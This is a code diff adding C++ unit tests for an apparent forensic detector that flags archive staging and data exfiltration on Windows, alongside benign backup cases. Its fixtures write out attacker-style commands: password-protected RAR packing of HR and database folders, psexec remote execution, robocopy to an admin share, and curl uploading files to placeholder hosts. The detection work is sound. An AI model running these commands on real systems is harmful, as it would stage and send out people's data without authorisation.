@@ -1,6 +1,8 @@
 // What archivers remember, and the story of what was packed.
 #include <gmock/gmock.h>
 
+#include <chrono>
+
 #include "tests/builders/prefetch_builder.h"
 #include "tests/modules/packing_cases.h"
 
@@ -432,7 +434,142 @@ TEST(WinRarStaging, RenamedArchiversWithoutAnActAreToldByThemselves) {
   EXPECT_EQ(severity_of(run.context->findings[0]), Severity::medium);
 }
 
+TEST(WinRarStaging, OtherArchivesOfTheSameNameAreOtherActs) {
+  constexpr double kDay = 86'400;
+  const auto run = judge_winrar(
+      {process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe", "7z a D:\\Backup\\db.7z D:\\db",
+                    {{"User", "PC\\svc_backup"}}),
+       process_fact(at(40 * kDay), "C:\\T\\x.exe", "x.exe a -hpX -v9m E:\\Backup\\db.rar E:\\db"),
+       process_fact(at(80 * kDay), "C:\\T\\x.exe", "x.exe a -hpX -v9m C:\\PerfLogs\\1.rar E:\\db",
+                    {{"User", "PC\\mallory"}}),
+       process_fact(at(82 * kDay), "C:\\T\\x.exe",
+                    "x.exe a -hpX -v9m C:\\PerfLogs\\1.rar E:\\db")});
+  ASSERT_THAT(run.context->findings, SizeIs(3)) << fake::summary_of(run.context->findings);
+  for (const Finding& finding : run.context->findings)
+    EXPECT_THAT(story_of(finding), Not(HasSubstr("svc_backup")));
+}
+
+TEST(WinRarStaging, WhatTellsNoDriveIsOfTheArchiveOfItsFolder) {
+  const auto run =
+      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
+                    hand_made(FactKind::archive_trace, at(3), "\\VOLUME{01d5-aa}\\PERFLOGS\\1.RAR",
+                              "p-1", {{"source", "prefetch"}, {"program", "RAR.EXE"}})});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("RAR.EXE read or wrote"));
+}
+
+TEST(WinRarStaging, WhatAnotherHostPacksIsToldWithIt) {
+  const auto run = judge_winrar(
+      {process_fact(at(0), "C:\\T\\psexec.exe",
+                    "psexec \\\\fs01 -s C:\\T\\rar.exe a -hpX C:\\PerfLogs\\1.rar C:\\HR")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  const Finding& finding = run.context->findings[0];
+  EXPECT_EQ(finding.subject, "\\\\fs01\\C$\\PerfLogs\\1.rar");
+  EXPECT_THAT(finding.title, HasSubstr("on the host fs01"));
+  EXPECT_THAT(story_of(finding), HasSubstr("on the host fs01"));
+  EXPECT_THAT(story_of(finding), Not(HasSubstr("was started from")));
+}
+
+TEST(WinRarStaging, CopiesToASharesHostAreNoSendingAway) {
+  const auto run =
+      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
+                    process_fact(at(9), "C:\\Windows\\System32\\cmd.exe",
+                                 "cmd /c copy C:\\PerfLogs\\1.rar \\\\nas\\b"),
+                    process_fact(at(10), "C:\\Windows\\System32\\cmd.exe",
+                                 "cmd /c copy C:\\PerfLogs\\1.rar \\\\localhost\\own$")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("copies it to another host"));
+  EXPECT_THAT(story_of(run.context->findings[0]), Not(HasSubstr("own$")));
+  EXPECT_THAT(run.context->findings[0].title, Not(HasSubstr("send it away")));
+}
+
+TEST(WinRarStaging, RobocopyOfAllArchivesOfAFolderIsTold) {
+  const auto run =
+      judge_winrar({process_fact(at(0), "C:\\T\\rar.exe", "rar a -hpX C:\\PerfLogs\\1.rar C:\\HR"),
+                    process_fact(at(9), "C:\\Windows\\System32\\robocopy.exe",
+                                 "robocopy C:\\PerfLogs \\\\10.9.9.9\\c$\\temp *.rar")});
+  ASSERT_THAT(run.context->findings, SizeIs(1));
+  EXPECT_THAT(story_of(run.context->findings[0]), HasSubstr("copies it to another host"));
+}
+
+TEST(WinRarStaging, PasswordsOfZipAreNotTold) {
+  for (const char* line : {R"(cmd /c "zip -r -eP S3cr#t C:\PerfLogs\1.zip C:\HR")",
+                           R"(zip -r -P "a S3cr#t" C:\PerfLogs\1.zip C:\HR)"}) {
+    const auto run = judge_winrar({process_fact(at(0), "C:\\T\\zip.exe", line)});
+    ASSERT_THAT(run.context->findings, SizeIs(1)) << line;
+    EXPECT_THAT(all_of(run.context->findings[0]), Not(HasSubstr("S3cr#t")));
+  }
+}
+
+TEST(WinRarStaging, ThousandsOfArchivesAndTransfersAreSoonHeldAgainstEachOther) {
+  std::vector<Fact> facts;
+  for (int i = 0; i < 3000; ++i) {
+    const std::string path = "C:\\PerfLogs\\a" + std::to_string(i) + ".7z";
+    facts.push_back(archive_fact(at(0), path, kMiB));
+    facts.push_back(usn_fact("created", at(0), path));
+  }
+  std::string line = "curl";
+  for (int i = 0; i < 300; ++i) line += " -T C:\\D\\" + std::to_string(i) + ".zip";
+  for (int i = 0; i < 300; ++i)
+    facts.push_back(process_fact(at(60 + i), "C:\\Windows\\System32\\curl.exe",
+                                 line + " https://h" + std::to_string(i) + ".example/"));
+  const auto begin = std::chrono::steady_clock::now();
+  const auto run = judge_winrar(std::move(facts));
+  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds{20});
+  ASSERT_THAT(run.context->notes, Not(IsEmpty()));
+}
+
 // ---- innocent use
+
+TEST(WinRarInnocent, SeveralArchivesThatOnlyLieThereAreLeftToTheModuleArchives) {
+  const auto run = judge_winrar({archive_fact(at(0), "C:\\PerfLogs\\1.rar", kMiB),
+                                 archive_fact(at(9), "C:\\PerfLogs\\2.rar", kMiB)});
+  EXPECT_THAT(run.context->findings, IsEmpty()) << fake::summary_of(run.context->findings);
+}
+
+TEST(WinRarInnocent, NightlyArchivesOfAWebServerAreARoutine) {
+  std::vector<Fact> facts;
+  for (int day = 0; day < 30; ++day)
+    facts.push_back(process_fact(at(day * 86'400), "C:\\Program Files\\7-Zip\\7z.exe",
+                                 "7z a -ir!*.log -sdel D:\\Archive\\iis-" + std::to_string(day) +
+                                     ".7z C:\\inetpub\\logs\\LogFiles"));
+  const auto run = judge_winrar(std::move(facts));
+  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
+}
+
+TEST(WinRarInnocent, ABackupThatIsCopiedToAStoreIsLow) {
+  const auto run =
+      judge_winrar({process_fact(at(0), "C:\\Program Files\\7-Zip\\7z.exe",
+                                 "7z a -mhe=on -pX D:\\Backup\\db-20220618.7z D:\\SQLDump"),
+                    process_fact(at(60), "C:\\Windows\\System32\\cmd.exe",
+                                 "cmd /c copy D:\\Backup\\db-20220618.7z \\\\nas01\\backup")});
+  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
+}
+
+TEST(WinRarInnocent, VolumesThatWereFetchedOrUnpackedAreLow) {
+  std::vector<Fact> facts;
+  for (int i = 1; i <= 4; ++i) {
+    const std::string part = std::to_string(i);
+    facts.push_back(
+        archive_fact(at(i), "C:\\Temp\\game.part" + part + ".rar", 100 * kMiB, {{"volume", "1"}}));
+    const std::string office = "C:\\Windows\\Temp\\office.7z.00" + part;
+    facts.push_back(usn_fact("created", at(i), office));
+    facts.push_back(usn_fact("deleted", at(900 + i), office, {{"created", at(i).iso8601()}}));
+    facts.push_back(archive_fact(at(i), "C:\\Users\\Public\\setup\\data.r0" + part, 9 * kMiB));
+  }
+  const auto run = judge_winrar(std::move(facts));
+  EXPECT_LE(highest(run), Severity::low) << fake::summary_of(run.context->findings);
+}
+
+TEST(WinRarInnocent, ACollectorOfLogsIsNotHigh) {
+  const auto pack = [](const std::string& archive, const std::string& what) {
+    return judge_winrar({process_fact(at(0), "C:\\Windows\\Temp\\V\\7za.exe",
+                                      "7za.exe a C:\\Windows\\Temp\\V\\" + archive + " " + what)});
+  };
+  EXPECT_LE(highest(pack("l.zip", "C:\\ProgramData\\V\\*.log")), Severity::low);
+  EXPECT_EQ(highest(pack("l.7z", "C:\\ProgramData\\V\\*.log")), Severity::medium);
+  EXPECT_GE(highest(pack("l.7z", "-mhe -pX D:\\HR\\*.docx")), Severity::high);
+}
 
 TEST(WinRarInnocent, ArchivesOfUsersAreSilent) {
   const auto run = judge_winrar(
